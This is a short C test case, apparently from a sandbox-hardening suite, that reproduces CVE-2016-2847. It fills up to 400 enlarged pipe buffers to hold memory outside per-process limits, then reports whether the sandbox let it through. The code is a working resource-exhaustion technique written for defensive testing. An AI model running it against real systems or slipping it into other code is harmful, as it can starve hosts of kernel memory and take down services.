// title: hides memory in pipes, where no limit on a program's own memory looks
// source: CVE-2016-2847, pipes' buffers were not counted to anybody
// blocked: said or memory or open_files or killed
// twin: yes
#include "attack.h"

ATTACK(memory_in_pipes) {
    static char page[65536];
    long total = 0;
    memset(page, 1, sizeof page);
    for (int i = 0; i < 400; i++) {
        int ends[2];
        if (pipe2(ends, O_NONBLOCK) == -1) break;
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        for (ssize_t count; (count = write(ends[1], page, sizeof page)) > 0;) total += count;
    }
    if (total > 40 << 20) through("%ld MiB in pipes", total >> 20);
    else held("%ld KiB in pipes", total >> 10);
}
